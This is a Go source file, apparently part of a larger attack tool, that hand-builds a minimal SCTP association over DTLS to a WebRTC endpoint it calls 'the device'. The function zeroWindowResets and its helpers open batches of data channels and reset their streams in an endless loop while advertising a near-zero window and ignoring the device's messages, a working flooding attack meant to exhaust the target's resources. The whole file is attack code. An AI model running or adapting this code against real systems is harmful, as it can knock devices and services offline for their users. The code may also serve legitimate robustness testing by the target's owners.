// SPDX-License-Identifier: Apache-2.0

package main

import (
	"encoding/binary"
	"errors"
	"hash/crc32"
	"math/rand"
	"time"

	"github.com/pion/dtls/v2"
)

// Chunk and parameter types of RFC 9260, RFC 6525 and RFC 8832.
const (
	chunkData       = 0
	chunkInit       = 1
	chunkInitAck    = 2
	chunkSack       = 3
	chunkHeartbeat  = 4
	chunkAbort      = 6
	chunkCookieEcho = 10
	chunkCookieAck  = 11
	chunkReconfig   = 130
	paramCookie     = 7
	paramReset      = 13
	paramResetReply = 16
	ppidDcep        = 50
	resetStreams    = 50
	smallestWindow  = 1500
	sctpPort        = 5000
)

var castagnoli = crc32.MakeTable(crc32.Castagnoli)

// association is as much of SCTP as it takes to open and reset channels while advertising a window of zero.
type association struct {
	conn      *dtls.Conn
	remoteTag uint32
	tsn       uint32 // next to send
	acked     uint32 // cumulative, by the device
	received  uint32 // cumulative, from the device
	reset     uint32 // next request
	performed uint32 // last request answered
	up        bool
}

// zeroWindowResets opens and resets channels as fast as the device acknowledges, and takes none of its messages.
func zeroWindowResets(a *attack) error {
	return a.again(func() error {
		c, err := join(a.url)
		if err != nil {
			return err
		}
		defer c.close()
		path, err := c.connect()
		if err != nil {
			return err
		}
		conn, err := c.secure(path)
		if err != nil {
			return err
		}
		defer conn.Close()
		s := &association{conn: conn, tsn: rand.Uint32()}
		s.acked, s.reset = s.tsn-1, s.tsn
		if err = s.establish(); err != nil {
			return err
		}
		for !a.ended.Load() {
			if err = s.openAndReset(a); err != nil {
				return err
			}
		}
		return nil
	})
}

func (s *association) establish() error {
	tag := rand.Uint32() | 1
	init := make([]byte, 16)
	binary.BigEndian.PutUint32(init, tag)
	binary.BigEndian.PutUint32(init[4:], smallestWindow)
	binary.BigEndian.PutUint16(init[8:], 65535)
	binary.BigEndian.PutUint16(init[10:], 65535)
	binary.BigEndian.PutUint32(init[12:], s.tsn)
	init = append(init, 0xc0, 0, 0, 4, 0x80, 0x08, 0, 6, 130, 192, 0, 0)
	for try := 0; try < 20 && !s.up; try++ {
		if s.remoteTag == 0 {
			if err := s.send(0, chunk(chunkInit, 0, init)); err != nil {
				return err
			}
		}
		if err := s.read(500 * time.Millisecond); err != nil {
			return err
		}
	}
	if !s.up {
		return errors.New("no SCTP association")
	}
	return nil
}

// openAndReset opens a batch of channels, waits for the acknowledgement, resets their streams and waits for the reply.
func (s *association) openAndReset(a *attack) error {
	open := []byte{3, 0, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 'x'}
	first := s.tsn
	batch := make([][]byte, resetStreams)
	for i := range batch {
		data := make([]byte, 12, 12+len(open))
		binary.BigEndian.PutUint32(data, s.tsn)
		binary.BigEndian.PutUint16(data[4:], uint16(2*i+1))
		binary.BigEndian.PutUint32(data[8:], ppidDcep)
		batch[i] = chunk(chunkData, 3, append(data, open...))
		s.tsn++
	}
	if err := s.until(func() bool { return int32(s.acked-(s.tsn-1)) >= 0 }, func() error {
		for i, data := range batch {
			if int32(first+uint32(i)-s.acked) > 0 {
				if err := s.send(s.remoteTag, data); err != nil {
					return err
				}
			}
		}
		return nil
	}); err != nil {
		return err
	}
	request := make([]byte, 16, 16+2*resetStreams)
	binary.BigEndian.PutUint16(request, paramReset)
	binary.BigEndian.PutUint16(request[2:], 16+2*resetStreams)
	binary.BigEndian.PutUint32(request[4:], s.reset)
	binary.BigEndian.PutUint32(request[12:], s.tsn-1)
	for i := 0; i < resetStreams; i++ {
		request = binary.BigEndian.AppendUint16(request, uint16(2*i+1))
	}
	if err := s.until(func() bool { return s.performed == s.reset }, func() error {
		return s.send(s.remoteTag, chunk(chunkReconfig, 0, request))
	}); err != nil {
		return err
	}
	s.reset++
	a.sent.Add(resetStreams)
	return nil
}

// until repeats a transmission until it had its effect.
func (s *association) until(done func() bool, transmit func() error) error {
	for try := 0; try < 20; try++ {
		if err := transmit(); err != nil {
			return err
		}
		for end := time.Now().Add(300 * time.Millisecond); time.Now().Before(end); {
			if done() {
				return nil
			}
			if err := s.read(time.Until(end)); err != nil {
				return err
			}
		}
	}
	return errors.New("the device answers no more")
}

func (s *association) read(wait time.Duration) error {
	packet := make([]byte, 8192)
	_ = s.conn.SetReadDeadline(time.Now().Add(wait))
	length, err := s.conn.Read(packet)
	if err != nil {
		var timeout interface{ Timeout() bool }
		if errors.As(err, &timeout) && timeout.Timeout() {
			return nil
		}
		return err
	}
	for at := 12; at+4 <= length; {
		size := int(binary.BigEndian.Uint16(packet[at+2:]))
		if size < 4 || at+size > length {
			break
		}
		if err = s.handle(packet[at], packet[at+4:at+size]); err != nil {
			return err
		}
		at += (size + 3) &^ 3
	}
	return nil
}

func (s *association) handle(kind byte, value []byte) error {
	switch kind {
	case chunkInitAck:
		s.remoteTag = binary.BigEndian.Uint32(value)
		s.received = binary.BigEndian.Uint32(value[12:]) - 1
		for at := 16; at+4 <= len(value); {
			size := int(binary.BigEndian.Uint16(value[at+2:]))
			if size < 4 || at+size > len(value) {
				break
			}
			if binary.BigEndian.Uint16(value[at:]) == paramCookie {
				return s.send(s.remoteTag, chunk(chunkCookieEcho, 0, value[at+4:at+size]))
			}
			at += (size + 3) &^ 3
		}
	case chunkCookieAck:
		s.up = true
	case chunkHeartbeat:
		return s.send(s.remoteTag, chunk(chunkHeartbeat+1, 0, value))
	case chunkSack:
		s.acked = binary.BigEndian.Uint32(value)
	case chunkData:
		if binary.BigEndian.Uint32(value) == s.received+1 {
			s.received++
		}
		sack := make([]byte, 12)
		binary.BigEndian.PutUint32(sack, s.received)
		return s.send(s.remoteTag, chunk(chunkSack, 0, sack))
	case chunkReconfig:
		return s.reconfigured(value)
	case chunkAbort:
		return errors.New("aborted by the device")
	}
	return nil
}

func (s *association) reconfigured(value []byte) error {
	for at := 0; at+8 <= len(value); {
		size := int(binary.BigEndian.Uint16(value[at+2:]))
		if size < 8 || at+size > len(value) {
			break
		}
		number := binary.BigEndian.Uint32(value[at+4:])
		switch binary.BigEndian.Uint16(value[at:]) {
		case paramResetReply:
			if result := binary.BigEndian.Uint32(value[at+8:]); result <= 1 {
				s.performed = number
			}
		case paramReset:
			reply := make([]byte, 12)
			binary.BigEndian.PutUint16(reply, paramResetReply)
			binary.BigEndian.PutUint16(reply[2:], 12)
			binary.BigEndian.PutUint32(reply[4:], number)
			binary.BigEndian.PutUint32(reply[8:], 1)
			if err := s.send(s.remoteTag, chunk(chunkReconfig, 0, reply)); err != nil {
				return err
			}
		}
		at += (size + 3) &^ 3
	}
	return nil
}

func (s *association) send(tag uint32, chunk []byte) error {
	packet := make([]byte, 12, 12+len(chunk))
	binary.BigEndian.PutUint16(packet, sctpPort)
	binary.BigEndian.PutUint16(packet[2:], sctpPort)
	binary.BigEndian.PutUint32(packet[4:], tag)
	packet = append(packet, chunk...)
	binary.LittleEndian.PutUint32(packet[8:], crc32.Checksum(packet, castagnoli))
	_, err := s.conn.Write(packet)
	return err
}

func chunk(kind, flags byte, value []byte) []byte {
	size := 4 + len(value)
	chunk := make([]byte, (size+3)&^3)
	chunk[0], chunk[1] = kind, flags
	binary.BigEndian.PutUint16(chunk[2:], uint16(size))
	copy(chunk[4:], value)
	return chunk
}
